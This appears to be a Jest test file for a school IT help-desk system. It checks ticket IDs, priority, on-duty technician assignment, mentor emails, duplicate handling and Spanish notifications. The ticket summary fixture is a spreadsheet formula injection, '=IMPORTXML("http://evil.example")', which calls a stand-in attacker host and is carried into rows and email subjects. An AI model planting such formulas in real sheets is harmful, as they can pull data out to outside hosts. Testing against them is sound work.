import {
  FormAnswers,
  responseKey,
} from '../../../src/domain/tickets/intake-form';
import {ticketFromResponse} from '../../../src/domain/ticket-flow/new-ticket';
import {assignQueuedTicket} from '../../../src/domain/ticket-flow/queued-ticket';
import {entry, exampleReference} from '../../support/example-reference';

const answers: FormAnswers = {
  timestamp: '8/18/2026 9:10:00',
  email: 'r.garcia@example.org',
  campus: 'North Campus',
  room: '214',
  category: 'Projector or Display',
  assetTag: '',
  impact: 'Whole class',
  urgency: 'Class is stopped now',
  summary: '=IMPORTXML("http://evil.example")',
  details: 'No signal on the projector',
  language: 'Español',
  screenshots: '',
};

describe('a ticket from a form response', () => {
  const reference = exampleReference();
  // Tuesday 2026-08-18 is a B day; 09:10 is period 2.
  const context = {
    reference,
    ledger: [entry({id: 'T-000009', status: 'Closed'})],
    now: new Date(Date.UTC(2026, 7, 18, 14, 10)),
    local: {date: '2026-08-18', time: '09:10'},
    sheetUrl: 'https://docs.google.com/spreadsheets/d/x/edit',
  };

  it('gets the next ID, P1, an on-duty skilled tech and its emails', () => {
    const ticket = ticketFromResponse(answers, responseKey(answers), context);
    expect(ticket.row['Ticket ID']).toBe('T-000010');
    expect(ticket.row.Priority).toBe('P1');
    expect(ticket.row.Status).toBe('Assigned');
    expect(ticket.row.Period).toBe('2');
    expect(ticket.row.Language).toBe('Español');
    expect(ticket.row.Summary).toBe('=IMPORTXML("http://evil.example")');
    expect(ticket.row['Response Key']).toBe(
      '8/18/2026 9:10:00|r.garcia@example.org'
    );
    // North, B day, period 2: Maya Patel and Diego Ramírez are on duty; only Maya (skills: All)
    // covers projectors. She is a senior mentor, so no mentor is told.
    expect(ticket.row.Assignee).toBe('Maya Patel');
    expect(ticket.messages.map(m => [m.to, m.subject])).toEqual([
      [
        'r.garcia@example.org',
        '[T-000010] Recibimos su solicitud: =IMPORTXML("http://evil.example")',
      ],
      [
        'maya.patel@students.example.org',
        '[T-000010] P1 for you: =IMPORTXML("http://evil.example")',
      ],
    ]);
    expect(ticket.activity).toMatchObject({
      ticketId: 'T-000010',
      field: 'Ticket',
      newValue:
        'Created from the form: P1, assigned to maya.patel@students.example.org',
      who: 'r.garcia@example.org',
    });
  });

  it('tells a junior’s mentor about the junior’s new ticket', () => {
    // North, A day, period 2: Ava Chen and Liam O'Brien; Liam has the projector skill.
    const ticket = ticketFromResponse(answers, 'k', {
      ...context,
      local: {date: '2026-08-17', time: '09:10'},
    });
    expect(ticket.messages.map(m => [m.to, m.subject])).toEqual([
      [
        'r.garcia@example.org',
        '[T-000010] Recibimos su solicitud: =IMPORTXML("http://evil.example")',
      ],
      [
        'liam.obrien@students.example.org',
        '[T-000010] P1 for you: =IMPORTXML("http://evil.example")',
      ],
      [
        'maya.patel@students.example.org',
        "[T-000010] Your junior Liam O'Brien has a new P1 ticket",
      ],
    ]);
  });

  it('gives a possible duplicate to the tech who has the original', () => {
    const ticket = ticketFromResponse(answers, 'k', {
      ...context,
      ledger: [
        entry({
          id: 'T-000004',
          status: 'In Progress',
          assignee: 'liam.obrien@students.example.org',
          room: '214',
          category: 'Projector or Display',
          createdMs: context.now.getTime() - 10 * 60_000,
        }),
      ],
    });
    expect(ticket.row.Assignee).toBe("Liam O'Brien");
    expect(ticket.row['Duplicate Of']).toBe('T-000004');
    expect(ticket.row['Assignment Note']).toBe(
      "Possible duplicate of T-000004: given to Liam O'Brien, who has it."
    );
  });

  it('waits unassigned outside the bell periods, then the sweep assigns it', () => {
    const early = ticketFromResponse(answers, 'k', {
      ...context,
      local: {date: '2026-08-18', time: '07:15'},
    });
    expect(early.row.Status).toBe('New');
    expect(early.row.Assignee).toBe('');
    expect(early.row['Assignment Note']).toBe(
      'Waiting: nobody on duty. 07:15 on B day 2026-08-18 is outside the bell periods in Schedule.'
    );
    expect(early.messages.map(m => m.to)).toEqual(['r.garcia@example.org']);
    // Before the first bell the teacher hears when a tech comes on duty, not "nobody is on duty".
    expect(early.messages[0].body).toMatch(
      /Un técnico entra de turno a las \d\d:\d\d y lo atenderá\./
    );
    expect(early.messages[0].body).not.toMatch(/nadie/);

    const later = assignQueuedTicket(early.row, context);
    expect(later?.row.Assignee).toBe('Maya Patel');
    expect(later?.row.Status).toBe('Assigned');
    expect(later?.activity).toMatchObject({
      field: 'Assignee',
      newValue: 'Maya Patel',
    });
    // The teacher hears who took it, by first name and in Spanish.
    expect(later?.messages[0]).toMatchObject({
      to: 'r.garcia@example.org',
      subject: expect.stringMatching(/^\[T-\d+\] Maya se encarga: /),
    });
    expect(later?.messages[0].body).not.toContain('@');
  });
});
